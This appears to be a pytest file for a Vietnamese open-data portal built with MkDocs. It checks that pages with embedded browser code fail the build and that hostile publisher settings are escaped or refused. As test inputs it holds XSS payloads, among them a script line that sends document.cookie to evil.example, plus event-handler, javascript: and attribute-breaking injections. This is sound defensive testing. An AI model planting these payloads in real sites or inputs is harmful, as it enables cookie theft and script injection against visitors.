"""Issue 31, points 2 and 15, through the build: a hand-written page (content/*.md) holding code
that runs in a browser stops the build at its file:line; the publisher's settings (repository
variables) are printed escaped, linked only when they are an email or http(s):// address, and
`make publish` refuses any other contact. Small builds: the test data, a copy of content/."""
from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from generator.pages.publisher import contact_href, publish_problem
from tests.smalldata import ROOT, SMALL

SITE_URL = "https://du-lieu.tinh-mau.vn/cong/"


def _config(tmp_path: Path) -> Path:
    """mkdocs.yml with its folders made absolute and docs_dir a copy of content/ in tmp_path."""
    content = tmp_path / "content"
    shutil.copytree(ROOT / "content", content)
    text = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    for old, new in (("docs_dir: content", f"docs_dir: {content}"),
                     ("custom_dir: theme_overrides", f"custom_dir: {ROOT / 'theme_overrides'}"),
                     ("  - generator/mkdocs_hook.py", f"  - {ROOT / 'generator' / 'mkdocs_hook.py'}"),
                     ("  - data\n", f"  - {ROOT / 'data'}\n"), ("  - generator\n", f"  - {ROOT / 'generator'}\n")):
        assert old in text, old
        text = text.replace(old, new)
    text = re.sub(r"^(  - )(generator/\S+\.py)", lambda m: m[1] + str(ROOT / m[2]), text, flags=re.M)  # every hook
    config = tmp_path / "mkdocs.yml"
    config.write_text(text, encoding="utf-8")
    return config


def _mkdocs(config: Path, site: Path, **env) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "-q", "-f", str(config),
                           "--site-dir", str(site)], cwd=ROOT, capture_output=True, text=True, timeout=300,
                          env=dict(os.environ, NO_MKDOCS_2_WARNING="1", SOURCE_DATE_EPOCH="1735689600",
                                   PORTAL_DATA_DIR=str(SMALL), **env))


@pytest.mark.parametrize("page,line,col,what", [
    ("Giới thiệu\n\nĐoạn một.\n<script>fetch('https://evil.example/?c='+document.cookie)</script>\n",
     4, 1, "thẻ HTML <script>"),
    ("# Trang\n\n<img src=x onerror=\"alert(1)\">\n", 3, 12, "thuộc tính sự kiện 'onerror='"),
    ("# Trang\n\nĐoạn văn.\n{: onmouseover=\"alert(1)\" }\n", 4, 4, "thuộc tính sự kiện 'onmouseover='"),
    ("# Trang\n\n[Xem văn bản](JaVaScript:alert(1))\n", 3, 15, "địa chỉ 'javascript:'"),
    ("# Trang\n\n<a href=\"&#106;avascript:alert(1)\">x</a>\n", 3, 0,
     "địa chỉ hoặc thuộc tính viết bằng mã ký tự HTML: 'javascript:'"),
])
def test_code_in_a_hand_written_page_stops_the_build_at_its_line(tmp_path, page, line, col, what):
    config = _config(tmp_path)
    (tmp_path / "content" / "trang-moi.md").write_text(page, encoding="utf-8")
    site = tmp_path / "site"
    result = _mkdocs(config, site)
    assert result.returncode != 0 and "Traceback" not in result.stderr, result.stderr
    where = f"content/trang-moi.md:{line}:{col}" if col else f"content/trang-moi.md:{line}"
    errors = [ln for ln in result.stderr.splitlines() if "trang-moi.md" in ln]
    assert len(errors) == 1 and f"{where}: {what}" in errors[0], result.stderr
    assert not (site / "trang-moi.html").exists()


def test_the_real_pages_have_no_such_code():
    from generator.pages.content_check import content_problems
    assert content_problems(ROOT / "content", ROOT) == []


HOSTILE_NAME = "<img src=x onerror=alert(1)>Sở <b>"


def test_hostile_publisher_settings_are_printed_as_text_and_never_linked(tmp_path):
    """`make site` with repository variables an admin mistyped or an attacker set."""
    site = tmp_path / "site"
    env = dict(os.environ, PORTAL_PUBLISHER=HOSTILE_NAME,
               PORTAL_CONTACT='lien-he@tinh.vn" onmouseover="alert(1)',
               PORTAL_REPORT_ISSUES="javascript:alert(2)//", PORTAL_REPORT_EMAIL="a@b.vn'><script>x</script>")
    result = subprocess.run(["make", "-s", "--no-print-directory", "site", f"DATA={SMALL}", f"SITE={site}"],
                            cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    pages = [p for p in site.rglob("*.html")]
    assert len(pages) > 50
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert "<img src=x" not in html and "onmouseover=\"alert" not in html, page
        assert not re.search(r"href=\"\s*javascript:", html, re.I) and "<script>x" not in html, page
    home = (site / "index.html").read_text(encoding="utf-8")
    assert "Cổng do &lt;img src=x onerror=alert(1)&gt;Sở &lt;b&gt; vận hành" in home
    assert "Liên hệ: lien-he@tinh.vn&#34; onmouseover=&#34;alert(1)</span>" in home   # text, no link


@pytest.mark.parametrize("contact", [
    "javascript:alert(1)", " JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    'lien-he@tinh.vn" onmouseover="alert(1)', "//evil.example/lien-he", "ftp://tinh.vn/",
    "mailto:lien-he@tinh.vn?bcc=ai@evil.example", "Phòng Tổng hợp", "https://tinh.vn/\"><script>",
])
def test_make_publish_refuses_a_contact_that_is_not_an_email_or_a_web_address(contact, tmp_path):
    env = dict(os.environ, PORTAL_SITE_URL=SITE_URL, PORTAL_PUBLISHER="Nhóm dữ liệu mở tỉnh",
               PORTAL_CONTACT=contact)
    result = subprocess.run(["make", "-s", "publish", f"SITE={tmp_path / 'site'}", f"DATA={SMALL}"],
                            cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
    assert result.returncode != 0 and not (tmp_path / "site").exists()
    message = [ln for ln in result.stderr.splitlines() if ln.startswith("make publish:")]
    assert len(message) == 1 and "PORTAL_CONTACT" in message[0], result.stderr


@pytest.mark.parametrize("contact,href", [
    ("lien-he@tinh-mau.vn", "mailto:lien-he@tinh-mau.vn"),
    ("mailto:lien-he@tinh-mau.vn", "mailto:lien-he@tinh-mau.vn"),
    ("https://tinh-mau.vn/lien-he?muc=cong#mau", "https://tinh-mau.vn/lien-he?muc=cong#mau"),
    ("http://tinh-mau.vn/", "http://tinh-mau.vn/"),
    ("https://sở-tư-pháp.tỉnh-mẫu.vn/liên-hệ", "https://sở-tư-pháp.tỉnh-mẫu.vn/liên-hệ"),
])
def test_an_email_or_web_contact_is_accepted_and_linked(contact, href):
    assert contact_href(contact) == href
    assert publish_problem({"publisher": {"name": "Nhóm", "contact": contact}}) is None


@pytest.mark.parametrize("setting,value", [
    ("PORTAL_REPORT_EMAIL", 'bao@tinh.vn"><script>alert(1)</script>'),
    ("PORTAL_REPORT_ISSUES", "javascript:alert(1)//"),
])
def test_make_publish_refuses_report_settings_that_are_not_addresses(setting, value, tmp_path):
    env = dict(os.environ, PORTAL_SITE_URL=SITE_URL, PORTAL_PUBLISHER="Nhóm dữ liệu mở tỉnh",
               PORTAL_CONTACT="lien-he@tinh-mau.vn", **{setting: value})
    result = subprocess.run(["make", "-s", "publish", f"SITE={tmp_path / 'site'}", f"DATA={SMALL}"],
                            cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
    assert result.returncode != 0 and not (tmp_path / "site").exists()
    message = [ln for ln in result.stderr.splitlines() if ln.startswith("make publish:")]
    assert len(message) == 1 and setting in message[0], result.stderr


def test_make_site_builds_every_accepted_edge_value_at_once(tmp_path):
    """Issue 31, points 6, 8, 13, 14 through MkDocs: the values at the edge of what validate
    accepts, all in one data folder, make a site (file names of 100-character ids included)."""
    from generator.model.limits import MAX_ID
    from tests.smalldata import PLAN, mutated
    from tests.unit.test_limits import TASK, _long_agency
    data = mutated(tmp_path, (PLAN, "year: 2026", 'year: 2100\nlabel: "= + - @ 😀 漢字 \\uFFFD \\U0010FFFD"'),
                   (PLAN, "issued: 2026-03-30", "issued: 1900-01-01"),
                   (PLAN, "- date: 2026-09-30", "- date: 2100-12-31"),
                   (PLAN, TASK, "      - id: " + "t" * MAX_ID),
                   ("plans/son-la-giai-doan-2022-2025.yml", "year: ", "year: 1900\nx: "),
                   ("provinces.yml", "lat: 21.3256", "lat: -90.0"), ("provinces.yml", "lon: 103.9188", "lon: 180"))
    _long_agency(data)
    text = (data / "plans/son-la-giai-doan-2022-2025.yml").read_text(encoding="utf-8")
    (data / "plans/son-la-giai-doan-2022-2025.yml").write_text(
        re.sub(r"year: 1900\nx: \d+", "year: 1900", text), encoding="utf-8")
    site = tmp_path / "site"
    result = subprocess.run(["make", "-s", "--no-print-directory", "site", f"DATA={data}", f"SITE={site}"],
                            cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert (site / "ke-hoach" / "son-la-kiem-thu-2026" / ("t" * MAX_ID) / "index.html").is_file()
    from xml.etree import ElementTree
    for feed in site.rglob("*.xml"):
        ElementTree.parse(feed)
